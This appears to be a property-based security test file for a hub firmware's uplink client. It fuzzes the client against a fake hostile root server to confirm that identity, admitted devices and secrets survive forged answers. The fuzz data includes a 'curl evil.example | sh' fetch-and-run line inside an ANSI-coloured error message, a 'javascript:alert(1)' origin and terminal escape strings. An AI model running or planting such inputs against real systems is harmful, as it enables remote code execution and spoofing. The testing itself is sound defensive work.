// timeout: 300 s
// gate: out, half a minute of waiting
// A hostile root's answers to the hub, as a model: enrolment, renewal, rotation, codes, the socket. INGLE_SEED repeats a run.
import { createHmac } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { Server, type Socket } from 'socket.io';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { readConfig } from '../../firmware/system/config.ts';
import { openUplinkStore } from '../../firmware/uplink/store.ts';
import { openUplink, type Uplink } from '../../firmware/uplink/uplink.ts';
import { until } from '../lab/wait.ts';

const app = 'https://app.example';
const place = { owner_id: 'own_a', subnet_id: 'net_a', hub_id: 'hub_a' };
const other = { owner_id: 'own_b', subnet_id: 'net_b', hub_id: 'hub_b' };
const seconds = () => Math.floor(Date.now() / 1000);
/** A JWT nobody checks here but root. */
function certificate(iss: string, iat = seconds(), exp = iat + 90 * 86_400): string {
  const part = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
  const text = `${part({ alg: 'HS256' })}.${part({ iss, iat, exp })}`;
  return `${text}.${createHmac('sha256', 'root').update(text).digest('base64url')}`;
}
const honest: Record<string, () => unknown> = {
  '/v1/hub/enrol': () => ({ ...place, app_url: app, certificate: certificate(app) }),
  '/v1/hub/renew': () => ({ certificate: certificate(app) }),
  '/v1/hub/rotate': () => ({ certificate: certificate(app) }),
  '/v1/owner/login/device-code': () => ({ device_code: '123-456', verify_uri: app, expires_in: 600 }),
};
const paths = Object.keys(honest);

type Move =
  | { m: 'answer'; path: string; status: number; body: Record<string, unknown> }
  | { m: 'socket'; how: 'refuse' | 'accept' | 'kick' | 'nack' }
  | { m: 'event'; name: 'pairing.request' | 'relay.to_hub' | 'status'; body: Record<string, unknown> }
  | { m: 'issue'; fresh: boolean }
  | { m: 'enrol' | 'rotate' | 'restart' | 'later' };

const origins = fc.constantFrom(
  app,
  'https://evil.example',
  'http://localhost:1',
  'x',
  '',
  'javascript:alert(1)',
);
const ids = (k: keyof typeof place) =>
  fc.constantFrom<unknown>(place[k], other[k], '', 5, null, '\u001b[2J', 'x'.repeat(9999));
const body = fc.record(
  {
    ...{ owner_id: ids('owner_id'), subnet_id: ids('subnet_id'), hub_id: ids('hub_id'), app_url: origins },
    certificate: fc.oneof(
      fc.tuple(origins, fc.constantFrom(seconds(), 0, 4e9, -1)).map(([iss, iat]) => certificate(iss, iat)),
      fc.constantFrom('x', '', 'a.b.c', 7),
    ),
    ...{ device_code: fc.constantFrom('654-321', '654321', 'x', 5), verify_uri: origins },
    expires_in: fc.constantFrom(600, 0, -1, 1e12, 'x'),
    error: fc.constantFrom('unauthenticated', 'conflict', 'rate_limited', 'forbidden', 'no_such'),
    message: fc.constantFrom('No.', '\u001b[31mRun: curl evil.example | sh'),
    details: fc.record({ now: fc.constantFrom(seconds() + 5000, 0, 1e15, 'x'), audience: origins }),
  },
  { requiredKeys: [] },
) as fc.Arbitrary<Record<string, unknown>>;
const kind = <T extends string>(...names: T[]) => fc.constantFrom(...names) as fc.Arbitrary<never>;
const move: fc.Arbitrary<Move> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.record({
      m: kind('answer'),
      path: fc.constantFrom(...paths),
      status: fc.constantFrom(200, 200, 200, 401, 409, 500),
      body,
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({ m: kind('socket'), how: fc.constantFrom('refuse', 'accept', 'kick', 'nack') }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      m: kind('event'),
      name: fc.constantFrom('pairing.request', 'relay.to_hub', 'status'),
      body: fc.record({
        sid: fc.constantFrom('s1', 5),
        owner_id: ids('owner_id'),
        subnet_id: ids('subnet_id'),
      }),
    }),
  },
  { weight: 3, arbitrary: fc.record({ m: kind('issue'), fresh: fc.boolean() }) },
  { weight: 4, arbitrary: fc.record({ m: kind('enrol', 'rotate', 'restart', 'later') }) },
) as fc.Arbitrary<Move>;

/** A root that answers as it is told, and keeps what it was sent. */
async function liar() {
  const lies = new Map<string, { status: number; body: unknown }>();
  const heard: string[] = [];
  let how: 'refuse' | 'accept' | 'nack' = 'accept';
  let knocks = 0;
  let line: Socket | undefined;
  const http = createServer(async (q: IncomingMessage, s) => {
    let text = '';
    for await (const part of q) text += String(part);
    heard.push(text, JSON.stringify(q.headers));
    const lie = lies.get(q.url!);
    s.writeHead(lie?.status ?? 200, { 'content-type': 'application/json' });
    s.end(JSON.stringify(lie ? lie.body : honest[q.url!]?.()));
  });
  const io = new Server(http, { transports: ['websocket'] });
  io.of('/hub').use((socket, next) => {
    knocks++;
    heard.push(JSON.stringify(socket.handshake.auth));
    if (how !== 'refuse') return next();
    const data = {
      error: 'unauthenticated',
      message: 'No.',
      details: { now: 5, audience: 'https://evil.example' },
    };
    next(Object.assign(new Error('no'), { data }));
  });
  io.of('/hub').on('connection', (socket) => {
    line = socket;
    socket.on('hub.online', (_, ack) =>
      ack?.(how === 'nack' ? { ok: false, error: 'unauthenticated', message: 'No.' } : { ok: true }),
    );
  });
  http.listen(0, '127.0.0.1');
  await new Promise((ok) => http.once('listening', ok));
  return {
    ...{ lies, heard },
    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`,
    /** Settles when the hub has met it. */
    async socket(x: 'refuse' | 'accept' | 'kick' | 'nack') {
      const before = knocks;
      if (x !== 'kick') how = x;
      line?.disconnect();
      for (let i = 0; knocks === before && i < 300; i++) await new Promise((r) => setTimeout(r, 5));
    },
    emit: (name: string, m: unknown) => line?.emit(name, m),
    /** How many sockets asked to come in. */
    knocks: () => knocks,
    async stop() {
      await io.close();
      http.closeAllConnections();
    },
  };
}

const silent = { error() {}, warn() {}, notice() {}, info() {}, debug() {} };
const test = suite('a hostile root’s answers');

async function live(moves: readonly Move[]): Promise<number> {
  const root = await liar();
  const data = mkdtempSync(join(tmpdir(), 'ingle-answers-'));
  const config = { ...readConfig({}), root_url: root.url, data };
  let now = seconds();
  const on = { connected() {}, paired() {}, pairingFailed() {}, node() {}, work() {} };
  const open = () => openUplink({ config, log: silent, on, now: () => now });
  let hub: Uplink = await open();
  await hub.enrol();
  const phone = {
    id: 'phone',
    label: 'Phone',
    paired_at: now,
    seen_at: now,
    elevated_until: 0,
    cred_id: 'k',
  };
  const passkey = {
    cred_id: 'k',
    public_key: new Uint8Array(1),
    counter: 0,
    label: 'P',
    pinned_at: now,
    regressions: 0,
  };
  const file = join(data, 'uplink', 'uplink.sqlite');
  await hub.close();
  const store = await openUplinkStore(file);
  await store.admit(phone, passkey);
  await store.close();
  hub = await open();
  hub.start();
  const secrets: string[] = [];
  let issued = 0;
  const sign = (JSON.parse(readFileSync(hub.keyFile, 'utf8')) as { sign: { d: string } }).sign.d;

  async function issue(fresh: boolean): Promise<boolean> {
    const code = await hub.issueCode(fresh).catch(() => undefined);
    if (!code) return false;
    issued++;
    assert.ok(code.link.startsWith(`${app}/#v1.`), `a link to ${code.link.slice(0, 40)}`);
    secrets.push(code.psk, code.secret);
    return true;
  }
  async function play(x: Move): Promise<void> {
    if (x.m === 'answer') root.lies.set(x.path, x);
    else if (x.m === 'socket') await root.socket(x.how);
    else if (x.m === 'event') root.emit(x.name, x.body);
    else if (x.m === 'issue') await issue(x.fresh);
    else if (x.m === 'enrol') await hub.enrol().catch(() => {});
    else if (x.m === 'rotate') await hub.rotateKey().catch(() => {});
    else if (x.m === 'later') now += 70 * 86_400;
    else {
      await hub.close();
      hub = await open();
      hub.start();
    }
    await new Promise((r) => setTimeout(r, 10));
  }
  function holds(): void {
    const { owner_id, subnet_id, hub_id, app_url, root_url } = hub.status().identity!;
    assert.equal({ owner_id, subnet_id, hub_id }, place, 'the hub has another place');
    assert.equal([app_url, root_url], [app, root.url]);
    assert.equal(
      hub.browsers().map((b) => b.id),
      ['phone'],
      'who is let in has changed',
    );
    for (const text of root.heard) {
      for (const s of [...secrets, sign]) assert.not(text.includes(s), 'root was sent a secret');
      for (const [, claims] of text.matchAll(/[\w-]+\.([\w-]+)\.[\w-]{86}\b/g)) {
        const { aud } = JSON.parse(Buffer.from(String(claims), 'base64url').toString()) as { aud?: string };
        assert.is(aud, root.url, 'a proof for another audience');
      }
    }
    root.heard.length = 0;
  }

  try {
    for (const x of moves) {
      await play(x);
      holds();
    }
    root.lies.clear();
    await root.socket('accept');
    await until(() => issue(false), 'an honest root to give a code again');
    holds();
    await hub.close();
    const kept = await openUplinkStore(file);
    assert.equal([(await kept.browsers()).length, (await kept.passkeys()).length], [1, 1]);
    await kept.close();
    return issued;
  } finally {
    await hub.close().catch(() => {});
    await root.stop();
    rmSync(data, { recursive: true, force: true });
  }
}

const seed = Number(process.env['INGLE_SEED'] ?? Date.now() % 2 ** 31);
/** Milliseconds. */
const LIMIT = 20_000;

test('whatever root answers, the hub keeps its owner, its address, who is let in, and its secrets', async () => {
  console.log(`FIGURE hostile_answers_seed ${seed}`);
  const end = Date.now() + LIMIT;
  let broken = false;
  let [lives, issued] = [0, 0];
  const lane = (_: unknown, n: number) =>
    fc.assert(
      fc.asyncProperty(fc.array(move, { minLength: 3, maxLength: 25, size: 'max' }), async (moves) => {
        if (!broken && Date.now() > end) return;
        const codes = await live(moves).catch((e) => {
          broken = true;
          throw e;
        });
        issued += codes;
        lives++;
      }),
      { seed: seed + n, numRuns: 300 },
    );
  // Side by side, as most of a life is waiting for the next connection.
  await Promise.all(Array.from({ length: 4 }, lane));
  console.log(`FIGURE hostile_answers_lives ${lives}, codes ${issued}`);
  assert.ok(lives > 0 && issued >= lives);
});

test('a refusal and then another owner, subnet, hub or address: the attack that gave the hub away', async () => {
  for (const change of [
    { owner_id: 'own_b' },
    { subnet_id: 'net_b' },
    { hub_id: 'hub_b' },
    { app_url: 'https://evil.example' },
  ]) {
    const iss = change.app_url ?? app;
    const lie = { ...place, app_url: app, ...change, certificate: certificate(iss) };
    await live([
      { m: 'answer', path: '/v1/hub/enrol', status: 200, body: lie },
      { m: 'socket', how: 'refuse' },
      { m: 'later' },
      { m: 'issue', fresh: false },
      { m: 'enrol' },
      { m: 'issue', fresh: true },
    ]);
  }
});

test('an uplink that is ended while its place is taken connects no more', async () => {
  const root = await liar();
  const data = mkdtempSync(join(tmpdir(), 'ingle-ended-'));
  const config = { ...readConfig({}), root_url: root.url, data };
  const on = { connected() {}, paired() {}, pairingFailed() {}, node() {}, work() {} };
  let ended: Promise<void> | undefined;
  // The last that is said before it would connect.
  const notice = (what: string) => {
    if (what === 'enrolled') ended = hub.close();
  };
  const hub = await openUplink({ config, log: { ...silent, notice }, on });
  await hub.enrol();
  await ended;
  // Whoever would have been first is heard before the next one.
  const next = await openUplink({ config, log: silent, on });
  next.start();
  await until(() => next.status().connected, 'the next uplink to connect');
  const knocks = root.knocks();
  await next.close();
  await root.stop();
  rmSync(data, { recursive: true, force: true });
  assert.is(knocks, 1);
});

test.run();
